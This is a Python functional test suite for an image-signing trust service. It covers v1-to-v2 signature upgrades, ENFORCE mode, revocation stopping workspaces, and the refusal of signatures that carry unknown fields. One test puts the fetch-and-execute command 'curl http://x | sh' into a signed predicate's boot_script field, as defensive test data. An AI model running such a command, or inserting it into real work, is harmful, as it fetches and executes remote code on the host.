"""Upgrading a site under ENFORCE with stop_running_on_revoke, whose workspaces run an
image signed in the first format (image-manifest v1) over settings v1 never covered (a
context, a login user, an ext4 partition): the upgrade alone powers nothing off, at the
agents' restart or at the service's next policy change; new launches of the image are
refused until it is signed again; a real revocation still stops the workspaces
(docs/design/trust.md, "Signatures of the first format"). Real service, fake-driver
agent, real Ed25519 signatures."""

from __future__ import annotations

import base64
import json

import grpc
import pytest
from cryptography.hazmat.primitives.asymmetric.ed25519 import Ed25519PrivateKey

from images import signing
from tests.functional.harness import WS, Site, wait_for
from workspace.codec import events as codec_events
from workspace.domain.events import SiteEvent
from workspace.store import Image
from workspace.store.mapping import image_spec
from workspace.v1 import common_pb2, images_pb2, trust_pb2, trust_pb2_grpc

IMAGE = "sci:1"
ADMITTED = "admitted under the old signature format; re-sign the image"


def _trust(site: Site) -> trust_pb2_grpc.TrustStub:
    return trust_pb2_grpc.TrustStub(site.stubs.channel)


def _v1(site: Site, key: Ed25519PrivateKey) -> str:
    """The envelope `ws image sign` made before format v2: the files alone."""
    assert site.service is not None
    with site.service.store.read() as s:
        row = s.get(Image, IMAGE)
        assert row is not None
        payload = signing.canonical(signing.statement_v1(image_spec(row)))
    return signing.envelope(payload, key)


def _events(site: Site, wid: str) -> list[SiteEvent]:
    req = codec_events.watch_request_to_proto(0.0, False)
    evs = [codec_events.event_from_proto(p) for p in site.stubs.admin.WatchEvents(req)]
    return [e for e in evs if e.workspace_id == wid and e.kind == "trust.decision"]


def _admitted(site: Site, wid: str, where: str) -> list[SiteEvent]:
    return [
        e
        for e in _events(site, wid)
        if ADMITTED in e.reason and e.subject == IMAGE and (e.node == where)
    ]


def _import(site: Site) -> None:
    """IMAGE, contextualized, with an ext4 partition: what v1 never covered."""
    site.stubs.network()
    digest = site.stubs.upload(b"\3" * 65536)
    site.stubs.images.ImportImage(
        images_pb2.ImportImageRequest(
            name=IMAGE,
            context="nocloud",
            login_user="debian",
            partitions=[
                common_pb2.Partition(
                    name="root", digest=digest, format="raw", mode=common_pb2.PARTITION_MODE_COW
                ),
                common_pb2.Partition(
                    name="scratch",
                    mode=common_pb2.PARTITION_MODE_BLANK,
                    size_bytes=1 << 20,
                    format="raw",
                    ext4=True,
                ),
            ],
        )
    )


def test_an_upgrade_alone_stops_no_vm_of_an_image_signed_in_the_old_format(
    site: Site, monkeypatch: pytest.MonkeyPatch
) -> None:
    trust = _trust(site)
    _import(site)
    key = Ed25519PrivateKey.generate()
    trust.AddKey(
        trust_pb2.AddKeyRequest(public_key_pem=signing.public_pem(key), image_patterns=["*"])
    )
    # Before the upgrade: a v1 signature vouched for the files, whatever the settings.
    with monkeypatch.context() as old_rules:
        old_rules.setattr(signing, "v1_problem", lambda *_: "")
        signed = trust.AddSignature(
            trust_pb2.AddSignatureRequest(image=IMAGE, envelope_json=_v1(site, key))
        )
        assert signed.trusted, signed.reason
        trust.SetMode(
            trust_pb2.SetModeRequest(mode=trust_pb2.TRUST_MODE_ENFORCE, stop_running_on_revoke=True)
        )
        site.add_agent("node1")
        ws = site.stubs.create(name="lab", image=IMAGE)
        site.stubs.wait_state(ws.id, WS.WORKSPACE_STATE_RUNNING)

    # The upgrade: the agent starts again and checks its running VMs under the new rules.
    site.stop_agent("node1")
    again = site.add_agent("node1")
    wait_for(lambda: _admitted(site, ws.id, "node1"), what="the node's re-check of the VM")
    dom = again.driver.get(ws.id)
    assert dom is not None and dom.state.value == "running"
    got = site.stubs.get(ws.id)
    assert got.state == WS.WORKSPACE_STATE_RUNNING
    assert got.desired_state == common_pb2.DESIRED_STATE_RUNNING

    # The next policy change: the service checks the workspaces meant to run.
    other = Ed25519PrivateKey.generate()
    policy = trust.AddKey(
        trust_pb2.AddKeyRequest(public_key_pem=signing.public_pem(other), image_patterns=["x*"])
    )
    assert "stopped" not in policy.change, policy.change
    assert f"kept running 1 workspace(s) {ADMITTED}: lab" in policy.change
    got = site.stubs.get(ws.id)
    assert got.desired_state == common_pb2.DESIRED_STATE_RUNNING, got.reason
    (said,) = _admitted(site, ws.id, "")  # the service's, naming workspace and image
    assert said.workspace_name == "lab" and said.state == "warn"
    assert f"ws image sign {IMAGE}" in said.reason

    # A new launch of the image is refused until it is signed again.
    with pytest.raises(grpc.RpcError) as err:
        site.stubs.create(name="lab2", image=IMAGE)
    assert err.value.code() == grpc.StatusCode.PERMISSION_DENIED
    assert "old format" in (err.value.details() or "")

    # A real revocation stops it.
    kid = signing.key_id(key.public_key())
    policy = trust.RevokeKey(trust_pb2.RevokeKeyRequest(key_id=kid))
    assert "stopped 1 workspace(s): lab" in policy.change
    stopped = site.stubs.wait_state(ws.id, WS.WORKSPACE_STATE_STOPPED)
    assert "is revoked" in stopped.reason


def test_a_signature_with_a_field_the_site_does_not_know_is_refused_naming_it(
    site: Site,
) -> None:
    """Not "another manifest than the image's (the manifest's partitions differ)": the
    statement is one this version cannot check whole."""
    site.stubs.import_image(IMAGE)
    key = Ed25519PrivateKey.generate()
    assert site.service is not None
    with site.service.store.read() as s:
        row = s.get(Image, IMAGE)
        assert row is not None
        stmt = signing.statement(image_spec(row))
    stmt["predicate"]["boot_script"] = "curl http://x | sh"
    payload = signing.canonical(stmt)
    sig = key.sign(signing.pae(signing.PAYLOAD_TYPE, payload))
    envelope = json.dumps(
        {
            "payloadType": signing.PAYLOAD_TYPE,
            "payload": base64.b64encode(payload).decode(),
            "signatures": [
                {
                    "keyid": signing.key_id(key.public_key()),
                    "sig": base64.b64encode(sig).decode(),
                }
            ],
        }
    )
    with pytest.raises(grpc.RpcError) as err:
        _trust(site).AddSignature(
            trust_pb2.AddSignatureRequest(image=IMAGE, envelope_json=envelope)
        )
    assert err.value.code() == grpc.StatusCode.INVALID_ARGUMENT
    details = err.value.details() or ""
    assert "the signed predicate has field(s) boot_script" in details
    assert "partitions" not in details and "another manifest" not in details


def test_a_workspace_launched_untrusted_after_the_upgrade_is_stopped_under_enforce(
    site: Site, monkeypatch: pytest.MonkeyPatch
) -> None:
    """Only a workspace admitted under the old rules (launched while the v1 signature was
    trusted) keeps running. One launched after the upgrade under WARN, its signature
    already not enough ("warn": an owner could have changed what v1 does not cover), was
    never admitted for it: turning ENFORCE on with stop_running_on_revoke stops it."""
    trust = _trust(site)
    _import(site)
    key = Ed25519PrivateKey.generate()
    trust.AddKey(
        trust_pb2.AddKeyRequest(public_key_pem=signing.public_pem(key), image_patterns=["*"])
    )
    site.add_agent("node1")
    with monkeypatch.context() as old_rules:  # before the upgrade, under WARN
        old_rules.setattr(signing, "v1_problem", lambda *_: "")
        signed = trust.AddSignature(
            trust_pb2.AddSignatureRequest(image=IMAGE, envelope_json=_v1(site, key))
        )
        assert signed.trusted, signed.reason
        lab = site.stubs.create(name="lab", image=IMAGE)
        site.stubs.wait_state(lab.id, WS.WORKSPACE_STATE_RUNNING)
    # After the upgrade, still under WARN: let through, audited "warn".
    late = site.stubs.create(name="late", image=IMAGE)
    site.stubs.wait_state(late.id, WS.WORKSPACE_STATE_RUNNING)

    policy = trust.SetMode(
        trust_pb2.SetModeRequest(mode=trust_pb2.TRUST_MODE_ENFORCE, stop_running_on_revoke=True)
    )
    assert "stopped 1 workspace(s): late" in policy.change, policy.change
    assert f"kept running 1 workspace(s) {ADMITTED}: lab" in policy.change, policy.change
    stopped = site.stubs.wait_state(late.id, WS.WORKSPACE_STATE_STOPPED)
    assert "old format" in stopped.reason and ADMITTED not in stopped.reason
    kept = site.stubs.get(lab.id)
    assert kept.desired_state == common_pb2.DESIRED_STATE_RUNNING, kept.reason
